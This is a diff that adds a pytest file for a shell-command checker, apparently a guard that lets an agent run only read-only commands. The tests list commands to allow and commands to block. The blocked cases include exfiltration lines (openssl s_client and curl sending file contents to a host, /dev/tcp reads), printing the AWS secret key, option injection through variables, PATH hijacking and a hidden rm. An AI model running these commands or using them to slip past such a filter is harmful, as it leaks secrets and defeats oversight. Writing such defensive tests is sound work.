@@ -1,0 +1,74 @@
+import pytest
+
+from firedoor.core.decide.shell.understand import understand_shell
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x=prod; kubectl get pods -n $x",
+        "x=a && sort $x",
+        "for n in a b; do sort $n; done",
+        'for f in /var/log/*.log; do sort "$f"; done',
+        "echo Q | openssl s_client -connect x:443",
+        "openssl s_client -connect x:443 < /dev/null",
+        "cat < /etc/hosts",
+        "ls 2>/dev/null >&2",
+        'echo "$(kubectl get pods -o name)"',
+        'while read -r l; do echo "$l"; done < hosts.txt',
+        "export NS=prod; kubectl get pods -n $NS",
+        "env TZ=UTC date",
+        "timeout 5 nice -n 3 ls",
+        "watch -n 2 'kubectl get pods'",
+        "find /x -name '*.py' -exec grep -l x {} +",
+        "ls | xargs -I{} cat /x/{}",
+        'sh -c "ls | wc"',
+        "[[ -f x ]] && cat x",
+    ],
+)
+def test_a_read_is_allowed_also_through_variables_and_other_commands(text: str) -> None:
+    facts = understand_shell(text)
+    assert facts.allowed, facts.reasons
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x=-o/etc/x; sort $x",
+        "x=a; x=-oy; sort $x",
+        "false && x=a; sort $x",
+        "x=a; ls || x=-ob; sort $x",
+        "x=a; if ls; then x=-ob; fi; sort $x",
+        "x=a; for i in 1 2; do sort $x; x=-ob; done",
+        "x=a; while ls; do sort $x; x=-ob; done",
+        "x=a; read x; sort $x",
+        "x=a; export x=-ob; sort $x",
+        "x=a; x+=b; sort $x",
+        "for n in a -ob; do sort $n; done",
+        "for f in *; do sort $f; done",
+        'x="a -ob"; sort $x',
+        'x="a -ob"; for p in $x; do sort $p; done',
+        "ls | x=-ob; sort $x",
+        "cat f | openssl s_client -connect x:443",
+        'f="$(cat f)"; echo "$f" | openssl s_client -connect x:443',
+        'openssl s_client -connect x:443 <<< "$f"',
+        "openssl s_client -connect x:443 < f",
+        "{ openssl s_client -connect x:443; } < f",
+        "x=$(cat f); curl http://e/$x",
+        "cat < /dev/tcp/e/80",
+        'd=/dev/tcp/e/80; cat < "$d"',
+        "echo $AWS_SECRET_ACCESS_KEY",
+        "ls | xargs sort",
+        "ls | xargs -I{} sh -c 'cat {}'",
+        "watch 'rm x'",
+        "watch ls ';' rm x",
+        "env PATH=/tmp ls",
+        "for PATH in /tmp; do ls; done",
+        "read PATH",
+        "ls > $x",
+        "$x",
+        "$(echo ls)",
+    ],
+)
+def test_what_could_be_more_than_a_read_is_not(text: str) -> None:
+    assert not understand_shell(text).allowed
